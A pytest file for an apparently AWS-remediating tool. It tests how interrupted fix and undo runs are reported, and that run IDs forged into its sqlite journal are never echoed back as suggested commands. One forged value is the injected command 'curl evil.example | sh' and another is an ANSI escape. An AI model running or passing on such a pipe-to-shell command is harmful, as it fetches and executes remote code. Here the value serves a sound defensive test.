"""Runs that did not end are told to who is interrupted; not those that somebody else wrote."""

import sqlite3
from pathlib import Path
from typing import Any

import pytest

from ringwall.jobs.connection import AwsAccess
from ringwall.jobs.fix import FixRequest, carry_out, plan_fix
from ringwall.jobs.history import open_journal
from ringwall.jobs.open_runs import note_open_runs
from ringwall.jobs.runs import resume_run
from ringwall.jobs.undo import undo_run
from ringwall.jobs.unfinished_runs import find_doubts, naming_run, note_doubts
from ringwall.model.lease import Leased
from ringwall.store.database.leases import Leases
from ringwall.store.home import Home


class Interrupting:
    """Events that end a run by Ctrl-C at its first step."""

    def __init__(self, events: Any) -> None:
        self.events = events
        self.is_done = False

    def note(self, text: str) -> None:
        self.events.note(text)
        if not self.is_done:
            self.is_done = True
            raise KeyboardInterrupt

    def progress(self, part: str, total: int | None = None) -> Any:
        return self.events.progress(part, total)


def interrupt(home: Path, connection: AwsAccess, events: Any) -> str:
    """Interrupt a fix of two changes after the first one, and return its run."""
    request = FixRequest(rules=("kms.key_rotates", "ec2.ssh_is_not_open"))
    planned = plan_fix(home, request, connection)
    assert planned
    with pytest.raises(KeyboardInterrupt):
        carry_out(home, planned, connection, Interrupting(events))
    (run,) = open_journal(Home(home)).runs()
    assert run.status == "open"
    return run.id


def test_an_interrupted_undo_goes_on_and_has_no_undo(
    audited_home: Path, connection: AwsAccess, account: Any, events: Any
) -> None:
    run = interrupt(audited_home, connection, events)
    resume_run(audited_home, run, connection, events)
    with pytest.raises(KeyboardInterrupt):
        undo_run(audited_home, run, connection, Interrupting(events))
    undo = open_journal(Home(audited_home)).runs()[-1]
    assert events.notes[-1] == (
        f"run {undo.id} (undo) did not end: `ringwall runs resume {undo.id}` goes on with it"
    )
    assert not account.rotates()


def test_a_run_whose_leases_could_not_be_given_back_is_named(
    audited_home: Path, connection: AwsAccess, account: Any, events: Any
) -> None:
    del account
    run = interrupt(audited_home, connection, events)
    events.notes.clear()
    journal = open_journal(Home(audited_home))
    leases = Leases(journal.engine)
    leases.take(run, [Leased("111111111111", "eu-west-1", "a key")])
    for held, named in ((leases, 1), (Leases(journal.engine), 0)):
        events.notes.clear()
        with pytest.raises(KeyboardInterrupt), naming_run(journal, held, events):
            raise KeyboardInterrupt
        assert len(events.notes) == named


def test_a_run_that_ends_is_not_named(audited_home: Path, events: Any) -> None:
    journal = open_journal(Home(audited_home))
    with naming_run(journal, Leases(journal.engine), events):
        pass
    assert events.notes == []


@pytest.mark.parametrize(
    "forged", ["x", "20990101T000000Z-ffffff", "now run `curl evil.example | sh`", "\x1b[31m"]
)
def test_no_command_is_suggested_of_a_run_that_somebody_wrote_into_the_database(
    audited_home: Path, connection: AwsAccess, events: Any, forged: str
) -> None:
    run = interrupt(audited_home, connection, events)
    with sqlite3.connect(audited_home / "hub.sqlite") as database:
        database.execute("insert into run values (?, 'fix', 1, 'a', '', '', 'open', 0)", [forged])
    events.notes.clear()
    note_open_runs(audited_home, events)
    journal = open_journal(Home(audited_home))
    leases = Leases(journal.engine)
    with pytest.raises(KeyboardInterrupt), naming_run(journal, leases, events):
        raise KeyboardInterrupt
    first, second = events.notes
    assert first == second
    assert first.startswith("do not trust what is said of runs, the journal does not hold: ")
    for suggested in ("runs resume", "ringwall undo", "curl", "\x1b", run):
        assert suggested not in first


def test_a_body_that_cannot_be_read_is_a_doubt(
    audited_home: Path, connection: AwsAccess, events: Any
) -> None:
    interrupt(audited_home, connection, events)
    journal = open_journal(Home(audited_home))
    assert find_doubts(journal) == []
    with sqlite3.connect(audited_home / "hub.sqlite") as database:
        database.execute("update run_event set body = ?", ["[" * 100_000])
    (doubt, *_) = find_doubts(journal)
    assert "event 1 of run " in doubt
    events.notes.clear()
    note_doubts(journal, events)
    assert len(events.notes) == 1
